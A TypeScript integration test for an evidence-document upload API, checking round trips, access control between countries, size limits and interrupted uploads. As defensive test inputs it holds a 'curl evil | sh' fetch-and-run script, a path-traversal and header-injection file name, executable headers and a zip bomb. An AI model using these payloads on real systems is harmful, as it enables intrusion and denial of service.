// Evidence documents through the API, as a focal point, a reviewer and an attacker would use them:
// byte-exact round trips, refused files that leave nothing behind, another country's documents out
// of reach, an interrupted upload, reviews flowing into readiness and answers.csv, and submission
// waiting for required evidence. Runs on both backends (TEST_DATABASE_URL, or the embedded one).
import { createHash, randomBytes } from 'node:crypto'
import { request } from 'node:http'
import type { AddressInfo } from 'node:net'
import { parse } from 'csv-parse/sync'
import type { FastifyInstance } from 'fastify'
import { sql } from 'kysely'
import t from 'tap'
import { ANSWER_COLUMNS } from '../../src/exports/columns.js'
import { answerAll, createAssessment, getAssessment } from '../helpers/assessments.js'
import { build } from '../helpers/build.js'
import { tokenFor } from '../helpers/tokens.js'
import { makeDocx } from '../helpers/zip.js'

const LAW = 'cdc.competition.competition_law'

/** A PDF of `size` bytes (a real header, random body): several chunks, not a multiple of the chunk size. */
function pdf(size: number): Buffer {
  const head = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')
  return Buffer.concat([head, randomBytes(size - head.length)])
}

async function stored(app: FastifyInstance) {
  const r = await sql<{ documents: number; chunks: number; attachments: number }>`select
      (select count(*)::int from evidence_documents) as documents,
      (select count(*)::int from evidence_chunks) as chunks,
      (select count(*)::int from evidence_attachments) as attachments`.execute(app.db)
  return r.rows[0]!
}

function upload(app: FastifyInstance, auth: string, id: string, body: Buffer, name: string, questionId?: string) {
  const query = new URLSearchParams({ name, ...(questionId ? { questionId } : {}) })
  return app.inject({
    method: 'POST',
    url: `/assessments/${id}/evidence/documents?${query}`,
    headers: { authorization: auth, 'content-type': 'application/octet-stream' },
    payload: body,
  })
}

t.test('evidence documents', async (t) => {
  const app = await build(t)
  const ken = await tokenFor(app, 'administration', 'KEN')
  const tza = await tokenFor(app, 'administration', 'TZA')
  const staff = await tokenFor(app, 'staff')
  const a = await createAssessment(app, ken, { questionnaire: 'cdc', country: 'KEN', cycle: 2026 })
  const theirs = await createAssessment(app, tza, { questionnaire: 'cdc', country: 'TZA', cycle: 2026 })

  let documentId = ''
  let attachmentId = ''
  const bytes = pdf(700_001)
  const name = 'Loi n° 2026-01 (Côte d’Ivoire).pdf'

  await t.test('upload and download round trip, byte for byte', async (t) => {
    const res = await upload(app, ken, a.id, bytes, name, LAW)
    t.equal(res.statusCode, 201, res.body)
    const { document, attachmentId: attached } = res.json()
    t.match(document, { name, filename: name, mediaType: 'application/pdf', size: bytes.length, sha256: createHash('sha256').update(bytes).digest('hex') })
    t.equal(res.headers.location, document.href)
    documentId = document.id
    attachmentId = attached
    t.equal((await stored(app)).chunks, 3, 'in 256 KiB chunks')

    const down = await app.inject({ method: 'GET', url: document.href, headers: { authorization: ken } })
    t.equal(down.statusCode, 200)
    t.ok(down.rawPayload.equals(bytes), 'the same bytes come back')
    t.equal(down.headers['content-type'], 'application/pdf')
    t.equal(down.headers['content-length'], String(bytes.length))
    t.equal(
      down.headers['content-disposition'],
      `attachment; filename="Loi n 2026-01 (Cote dIvoire).pdf"; filename*=UTF-8''Loi%20n%C2%B0%202026-01%20%28C%C3%B4te%20d%E2%80%99Ivoire%29.pdf`,
    )
    t.equal(down.headers['x-content-type-options'], 'nosniff')
    t.equal(down.headers['content-security-policy'], "sandbox; default-src 'none'")
    t.notOk(down.headers['content-encoding'])
    const reviewer = await app.inject({ method: 'GET', url: document.href, headers: { authorization: staff } })
    t.ok(reviewer.rawPayload.equals(bytes), 'a reviewer downloads it too')

    const docx = makeDocx()
    const office = await upload(app, ken, a.id, docx, 'Act.docx')
    t.equal(office.statusCode, 201, office.body)
    t.equal(office.json().document.mediaType, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document')
    const text = await upload(app, ken, a.id, Buffer.from('Gazette notice\nArticle 1\n'), 'notice')
    t.equal(text.statusCode, 201, text.body)
    t.match(text.json().document, { mediaType: 'text/plain; charset=utf-8', filename: 'notice.txt', name: 'notice' })
  })

  await t.test('the library: one document backs several answers; detach; the state shows on the assessment', async (t) => {
    const other = 'cdc.security.national_strategy'
    const res = await app.inject({
      method: 'POST',
      url: `/assessments/${a.id}/evidence/attachments`,
      headers: { authorization: ken },
      payload: { questionId: other, documentId },
    })
    t.equal(res.statusCode, 201, res.body)
    const again = await app.inject({
      method: 'POST',
      url: `/assessments/${a.id}/evidence/attachments`,
      headers: { authorization: ken },
      payload: { questionId: other, documentId },
    })
    t.equal(again.statusCode, 409)
    const unknown = await app.inject({
      method: 'POST',
      url: `/assessments/${a.id}/evidence/attachments`,
      headers: { authorization: ken },
      payload: { questionId: 'nope', documentId },
    })
    t.match(unknown.json(), { status: 422, errors: [{ path: '/body/questionId' }] })
    const view = await app.inject({ method: 'GET', url: `/assessments/${a.id}/evidence`, headers: { authorization: ken } })
    t.equal(view.statusCode, 200)
    const body = view.json()
    t.equal(body.documents.length, 3)
    t.match(
      body.items.filter((i: { kind: string }) => i.kind === 'document'),
      [
        { questionId: LAW, documentId, title: name, review: null },
        { questionId: other, documentId, title: name, review: null },
      ],
    )
    t.same(body.rules[LAW], { requiredFrom: 3 })
    const detach = await app.inject({
      method: 'DELETE',
      url: `/assessments/${a.id}/evidence/attachments/${res.json().attachmentId}`,
      headers: { authorization: ken },
    })
    t.equal(detach.statusCode, 204)
    t.equal((await stored(app)).attachments, 1, 'the document stays in the library')
  })

  await t.test('a file whose bytes are not what its name says is refused, and nothing is stored', async (t) => {
    const before = await stored(app)
    const html = await upload(app, ken, a.id, Buffer.from('<!DOCTYPE html><html><body><script>fetch("/me")</script></body></html>'), 'law.pdf')
    t.equal(html.statusCode, 415)
    t.equal(html.headers['content-type'], 'application/problem+json; charset=utf-8')
    t.match(html.json(), { detail: /HTML/, errors: [{ path: '/body' }] })
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(4000)])
    t.match((await upload(app, ken, a.id, elf, 'law.pdf')).json(), { status: 415, detail: /elf/ })
    const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), randomBytes(500)])
    t.equal((await upload(app, ken, a.id, exe, 'scan.jpg')).statusCode, 415)
    t.match((await upload(app, ken, a.id, Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'notes.txt')).json(), { status: 415, detail: /script/ })
    t.match((await upload(app, ken, a.id, Buffer.alloc(0), 'empty.pdf')).json(), { status: 422, detail: /empty/ })
    t.same(await stored(app), before)
  })

  await t.test('a zip bomb dressed as a Word document is refused, nothing stored', async (t) => {
    const before = await stored(app)
    const bomb = makeDocx([{ name: 'word/media/image1.png', data: Buffer.alloc(64 * 1024 * 1024) }])
    t.ok(bomb.length < 200_000, 'a small file')
    const res = await upload(app, ken, a.id, bomb, 'Act.docx')
    t.equal(res.statusCode, 422, res.body)
    t.match(res.json(), { detail: /zip bomb/, errors: [{ path: '/body' }] })
    const liar = makeDocx([{ name: 'word/media/image1.png', data: Buffer.alloc(4 * 1024 * 1024), declaredSize: 100 }])
    t.match((await upload(app, ken, a.id, liar, 'Act.docx')).json(), { status: 422, detail: /zip bomb/ })
    t.same(await stored(app), before)
  })

  await t.test('hostile file names: safe to download, shown as given', async (t) => {
    const hostile = '../../etc/passwd\r\nX-Injected: 1\u202Efdp.exe'
    const res = await upload(app, ken, a.id, pdf(2000), hostile)
    t.equal(res.statusCode, 201, res.body)
    const { document } = res.json()
    t.equal(document.name, hostile, 'the original name is kept for display')
    t.equal(document.filename, 'passwdX-Injected_ 1fdp.exe.pdf', 'no path, no control or bidi characters, a .pdf extension')
    const down = await app.inject({ method: 'GET', url: document.href, headers: { authorization: ken } })
    t.notOk(down.headers['x-injected'])
    t.match(down.headers['content-disposition'], /^attachment; filename="passwdX-Injected_ 1fdp\.exe\.pdf"; filename\*=UTF-8''/)
    const gone = await app.inject({ method: 'DELETE', url: document.href, headers: { authorization: ken } })
    t.equal(gone.statusCode, 204)
    t.equal((await app.inject({ method: 'GET', url: document.href, headers: { authorization: ken } })).statusCode, 404)
  })

  await t.test("another country's documents: neither readable nor writable, nor reusable", async (t) => {
    const before = await stored(app)
    const href = `/assessments/${a.id}/evidence/documents/${documentId}`
    for (const res of [
      await upload(app, tza, a.id, pdf(3000), 'x.pdf'),
      await app.inject({ method: 'GET', url: href, headers: { authorization: tza } }),
      await app.inject({ method: 'GET', url: `/assessments/${a.id}/evidence`, headers: { authorization: tza } }),
      await app.inject({ method: 'DELETE', url: href, headers: { authorization: tza } }),
      await app.inject({ method: 'DELETE', url: `/assessments/${a.id}/evidence/attachments/${attachmentId}`, headers: { authorization: tza } }),
    ]) {
      t.equal(res.statusCode, 404, 'as if it did not exist')
    }
    // Their own assessment cannot point at Kenya's document, nor read it through their own id.
    const reuse = await app.inject({
      method: 'POST',
      url: `/assessments/${theirs.id}/evidence/attachments`,
      headers: { authorization: tza },
      payload: { questionId: LAW, documentId },
    })
    t.match(reuse.json(), { status: 422, errors: [{ path: '/body/documentId' }] })
    t.equal(
      (await app.inject({ method: 'GET', url: `/assessments/${theirs.id}/evidence/documents/${documentId}`, headers: { authorization: tza } })).statusCode,
      404,
    )
    t.equal((await upload(app, staff, a.id, pdf(3000), 'x.pdf')).statusCode, 403, 'staff do not upload')
    t.equal((await app.inject({ method: 'GET', url: href })).statusCode, 401)
    t.same(await stored(app), before)
  })

  await t.test('a link without a scheme is refused with a message naming it, never dropped in silence', async (t) => {
    await app.inject({ method: 'PUT', url: `/assessments/${a.id}/answers/${LAW}`, headers: { authorization: ken }, payload: { value: 2 } })
    const current = (await getAssessment(app, ken, a.id)).answers.find((x) => x.questionId === LAW)!
    const res = await app.inject({
      method: 'PUT',
      url: `/assessments/${a.id}/answers/${LAW}`,
      headers: { authorization: ken, 'if-match': current.etag },
      payload: { value: 3, evidence: [{ title: 'Competition Act', url: 'www.parliament.go.tz/c.pdf' }] },
    })
    t.equal(res.statusCode, 400)
    t.match(res.json(), { errors: [{ path: '/body/evidence/0/url', message: /http\(s\) URL/ }] })
    t.same(
      (await getAssessment(app, ken, a.id)).answers.find((x) => x.questionId === LAW),
      current,
      'the answer is unchanged',
    )
  })

  await t.test('submission lists the answers that lack required evidence', async (t) => {
    await answerAll(app, ken, a.id)
    const law = (await getAssessment(app, ken, a.id)).answers.find((x) => x.questionId === LAW)!
    const linked = await app.inject({
      method: 'PUT',
      url: `/assessments/${a.id}/answers/${LAW}`,
      headers: { authorization: ken, 'if-match': law.etag },
      payload: { value: 3, evidence: [{ title: 'Competition Act', url: 'https://www.parliament.go.tz/c.pdf' }] },
    })
    t.equal(linked.statusCode, 200, linked.body)
    // answerAll gave links where the rules ask for evidence; take the law's away: its document remains, so it still has evidence.
    const strategy = 'cdc.security.national_strategy'
    const s = (await getAssessment(app, ken, a.id)).answers.find((x) => x.questionId === strategy)!
    const put = await app.inject({
      method: 'PUT',
      url: `/assessments/${a.id}/answers/${strategy}`,
      headers: { authorization: ken, 'if-match': s.etag },
      payload: { value: 4, evidence: [] },
    })
    t.equal(put.statusCode, 200, put.body)
    const refused = await app.inject({
      method: 'POST',
      url: `/assessments/${a.id}/transitions`,
      headers: { authorization: ken },
      payload: { action: 'submit' },
    })
    t.equal(refused.statusCode, 422)
    t.match(refused.json(), { lackingEvidence: [strategy], errors: [{ path: `/answers/${strategy}/evidence` }] })
    t.same((await app.inject({ method: 'GET', url: `/assessments/${a.id}/evidence`, headers: { authorization: ken } })).json().lackingEvidence, [strategy])
    const attach = await app.inject({
      method: 'POST',
      url: `/assessments/${a.id}/evidence/attachments`,
      headers: { authorization: ken },
      payload: { questionId: strategy, documentId },
    })
    t.equal(attach.statusCode, 201)
    const submit = await app.inject({ method: 'POST', url: `/assessments/${a.id}/transitions`, headers: { authorization: ken }, payload: { action: 'submit' } })
    t.equal(submit.statusCode, 200, submit.body)
    t.match((await upload(app, ken, a.id, pdf(3000), 'late.pdf')).json(), { status: 409 }, 'a submitted assessment takes no more evidence')
  })

  await t.test('reviewers accept or find evidence insufficient; readiness and answers.csv show it', async (t) => {
    const review = (auth: string, payload: object) =>
      app.inject({ method: 'PUT', url: `/assessments/${a.id}/evidence/reviews`, headers: { authorization: auth }, payload })
    const link = 'https://www.parliament.go.tz/c.pdf'
    t.equal((await review(ken, { questionId: LAW, attachmentId, status: 'accepted' })).statusCode, 403, 'administrations do not review')
    t.equal((await review(staff, { questionId: LAW, attachmentId, status: 'accepted' })).statusCode, 204)
    const noWhy = await review(staff, { questionId: LAW, url: link, status: 'insufficient' })
    t.match(noWhy.json(), { status: 422, errors: [{ path: '/body/comment' }] })
    t.equal(
      (await review(staff, { questionId: LAW, url: link, status: 'insufficient', comment: 'The link gives the bill, not the act as adopted.' })).statusCode,
      204,
    )
    t.match((await review(staff, { questionId: LAW, url: 'https://example.org/other', status: 'accepted' })).json(), {
      status: 422,
      errors: [{ path: '/body/url' }],
    })

    const view = (await app.inject({ method: 'GET', url: `/assessments/${a.id}/evidence`, headers: { authorization: ken } })).json()
    const law = view.items.filter((i: { questionId: string }) => i.questionId === LAW)
    t.match(law, [
      { kind: 'link', url: link, review: { status: 'insufficient', comment: 'The link gives the bill, not the act as adopted.', by: /test staff/ } },
      { kind: 'document', attachmentId, review: { status: 'accepted', comment: null } },
    ])

    const readiness = (await app.inject({ method: 'GET', url: `/assessments/${a.id}/readiness`, headers: { authorization: ken } })).json()
    const backed = Object.fromEntries(readiness.domains.map((d: { domain: string; evidenceBacked: number }) => [d.domain, d.evidenceBacked]))
    t.equal(backed.competition, 1, 'one competition answer is backed by accepted evidence')
    t.equal(backed.security, 0, 'nothing accepted in security yet')

    const csv = await app.inject({ method: 'GET', url: '/exports/answers.csv?questionnaire=cdc&country=KEN', headers: { authorization: staff } })
    t.equal(csv.statusCode, 200, csv.body)
    const [header, ...rows] = parse(csv.body, { bom: true }) as string[][]
    t.same(header, [...ANSWER_COLUMNS])
    const col = (n: string) => header!.indexOf(n)
    const row = rows.find((r) => r[col('question id')] === LAW)!
    t.equal(row[col('evidence titles')], 'Competition Act')
    t.equal(row[col('evidence documents')], name)
    t.equal(row[col('accepted evidence')], '1')
    const plain = rows.find((r) => r[col('question id')] === 'cdc.human_rights.restriction_instrument')!
    t.same([plain[col('evidence titles')], plain[col('evidence documents')], plain[col('accepted evidence')]], ['', '', '0'])

    const audited = await app.db.selectFrom('audit_events').select(['action']).where(sql<boolean>`action like 'evidence_%'`).execute()
    t.ok(audited.filter((e) => e.action === 'evidence_reviewed').length === 2, 'each review is in the audit trail')
    t.ok(audited.some((e) => e.action === 'evidence_uploaded'))
  })
})

t.test('the size limit: refused with 413 and nothing stored, declared or not', async (t) => {
  const app = await build(t, { evidenceMaxBytes: 100_000 })
  const ken = await tokenFor(app, 'administration', 'KEN')
  const a = await createAssessment(app, ken, { questionnaire: 'cdc', country: 'KEN', cycle: 2031 })
  const before = await stored(app)
  const declared = await upload(app, ken, a.id, pdf(100_001), 'big.pdf')
  t.equal(declared.statusCode, 413)
  t.match(declared.json(), { code: 'content_too_large', limit: 100_000 })
  // Without a Content-Length (a chunked body), the count of bytes as they arrive decides.
  await app.listen({ port: 0, host: '127.0.0.1' })
  const port = (app.server.address() as AddressInfo).port
  const status = await new Promise<number>((resolve, reject) => {
    const req = request({
      host: '127.0.0.1',
      port,
      method: 'POST',
      path: `/assessments/${a.id}/evidence/documents?name=big.pdf`,
      headers: { authorization: ken, 'content-type': 'application/pdf', 'transfer-encoding': 'chunked' },
    })
    req.on('response', (res) => {
      let body = ''
      res.on('data', (d) => (body += d))
      res.on('end', () => {
        if (res.statusCode !== 413) t.comment(body)
        resolve(res.statusCode ?? 0)
      })
    })
    req.on('error', reject)
    req.write(pdf(60_000))
    req.write(pdf(60_000))
    req.end()
  })
  t.equal(status, 413)
  t.same(await stored(app), before)
  t.equal((await upload(app, ken, a.id, pdf(100_000), 'ok.pdf')).statusCode, 201, 'exactly the limit is accepted')
})

t.test('an interrupted upload leaves nothing behind', async (t) => {
  const app = await build(t)
  await app.listen({ port: 0, host: '127.0.0.1' })
  const port = (app.server.address() as AddressInfo).port
  const ken = await tokenFor(app, 'administration', 'KEN')
  const a = await createAssessment(app, ken, { questionnaire: 'cdc', country: 'KEN', cycle: 2032 })
  const before = await stored(app)
  await new Promise<void>((resolve) => {
    const req = request({
      host: '127.0.0.1',
      port,
      method: 'POST',
      path: `/assessments/${a.id}/evidence/documents?name=half.pdf`,
      headers: { authorization: ken, 'content-type': 'application/pdf', 'content-length': 2_000_000 },
    })
    req.on('error', () => resolve())
    req.write(pdf(900_000), async () => {
      // Once the upload's transaction is writing chunks, the connection breaks.
      for (let i = 0; i < 600; i++) {
        const writing = await sql<{ n: number }>`select count(*)::int as n from pg_stat_activity
          where datname = current_database() and pid <> pg_backend_pid() and xact_start is not null and query like '%evidence_chunks%'`.execute(app.db)
        if (writing.rows[0]!.n > 0) break
        await new Promise((r) => setTimeout(r, 50))
      }
      req.destroy()
      resolve()
    })
  })
  // Wait until the broken upload's transaction has ended (its chunks were written in it), then look.
  for (let i = 0; ; i++) {
    const open = await sql<{ n: number }>`select count(*)::int as n from pg_stat_activity
      where datname = current_database() and pid <> pg_backend_pid() and xact_start is not null`.execute(app.db)
    if (open.rows[0]!.n === 0) break
    if (i > 600) throw new Error('the interrupted upload never ended')
    await new Promise((r) => setTimeout(r, 100))
  }
  t.same(await stored(app), before, 'nothing of the interrupted upload remains')
  const next = await upload(app, ken, a.id, pdf(1000), 'whole.pdf')
  t.equal(next.statusCode, 201)
  const after = await stored(app)
  t.same(after, { documents: before.documents + 1, chunks: before.chunks + 1, attachments: before.attachments }, 'only the complete upload is stored')
})
